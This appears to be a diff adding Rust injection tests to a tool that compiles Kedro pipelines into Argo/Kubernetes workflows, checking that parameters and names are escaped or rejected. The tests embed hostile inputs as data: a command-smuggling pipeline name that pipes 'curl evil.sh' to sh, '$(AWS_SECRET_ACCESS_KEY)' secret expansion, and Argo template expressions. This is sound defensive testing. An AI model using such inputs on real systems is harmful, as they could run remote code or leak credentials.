@@ -267,3 +267,111 @@ fn retry_expression_reaches_the_templates() {
         "{expressions:?}"
     );
 }
+
+/// Issue 16.4: user data cannot become a command or an expression.
+mod injection {
+    use super::*;
+    use crate::error::LowerError;
+
+    fn lower_error(result: Result<crate::Compiled, FuseError>) -> LowerError {
+        match result {
+            Err(FuseError::Lower(e)) => e,
+            other => panic!("expected a lowering error, got {other:?}"),
+        }
+    }
+
+    fn with_params(params: &[(&str, &str)]) -> Result<crate::Compiled, FuseError> {
+        let f = Fixture::new()
+            .node("train", &["features", "params:lr"], &["model"], json!({}))
+            .parameters(&["lr"]);
+        let params = params
+            .iter()
+            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
+            .collect();
+        compile(
+            &f.project(),
+            &CompileOptions::default().lower(LowerOptions::default().params(params)),
+        )
+    }
+
+    #[test]
+    fn params_are_escaped_for_kubernetes() {
+        let compiled = with_params(&[("lr", "$(AWS_SECRET_ACCESS_KEY)")]).expect("compiles");
+        let yaml = Document::from(compiled.workflow)
+            .to_yaml_string()
+            .expect("yaml");
+        assert!(
+            yaml.contains("value: lr=$$(AWS_SECRET_ACCESS_KEY)"),
+            "{yaml}"
+        );
+        assert!(!yaml.contains("=$(AWS"), "{yaml}");
+    }
+
+    #[test]
+    fn params_with_argo_expressions_are_refused() {
+        for (key, value) in [("lr", "{{workflow.name}}"), ("lr", "{{=sprig.env('X')}}")] {
+            let err = lower_error(with_params(&[(key, value)]));
+            assert!(matches!(err, LowerError::Expression { .. }), "{err:?}");
+            assert!(
+                err.to_string()
+                    .starts_with("the value of parameter `lr` contains `{{`"),
+                "{err}"
+            );
+        }
+    }
+
+    fn project_named(pipeline: &str, env: &str) -> kedro_graph::Project {
+        let f = Fixture::new().node("train", &["features"], &["model"], json!({}));
+        let mut ir = f.json(&config_json(json!({})));
+        ir["pipelines"][0]["name"] = json!(pipeline);
+        ir["project"]["env"] = json!(env);
+        kedro_graph::Project::from_json(&ir.to_string()).expect("valid IR")
+    }
+
+    #[test]
+    fn pipeline_and_env_names_are_plain_names() {
+        let project = project_named("ds; curl evil.sh | sh", "cloud");
+        let err = lower_error(compile(
+            &project,
+            &CompileOptions::default().pipeline("ds; curl evil.sh | sh"),
+        ));
+        assert!(
+            matches!(
+                err,
+                LowerError::UnsafeName {
+                    what: "pipeline",
+                    ..
+                }
+            ),
+            "{err:?}"
+        );
+        let project = project_named("__default__", "$(HOME)");
+        let err = lower_error(compile(&project, &CompileOptions::default()));
+        assert!(
+            matches!(err, LowerError::UnsafeName { what: "env", .. }),
+            "{err:?}"
+        );
+        assert!(!err.hints().is_empty());
+    }
+
+    #[test]
+    fn memory_dataset_names_cannot_break_the_list() {
+        for name in ["a,b", "$(SECRET)", "{{workflow.name}}"] {
+            let f = Fixture::new()
+                .group("g", json!({}))
+                .node("first", &["raw"], &[name], json!({"group": "g"}))
+                .node("second", &[name], &["out"], json!({"group": "g"}))
+                .memory(&[name]);
+            let err = lower_error(compile(
+                &f.project_with(config_json(
+                    json!({"runner": {"use_memory_datasets": true}}),
+                )),
+                &CompileOptions::default(),
+            ));
+            assert!(
+                matches!(err, LowerError::MemoryDatasetName { ref dataset, .. } if dataset == name),
+                "{name}: {err:?}"
+            );
+        }
+    }
+}
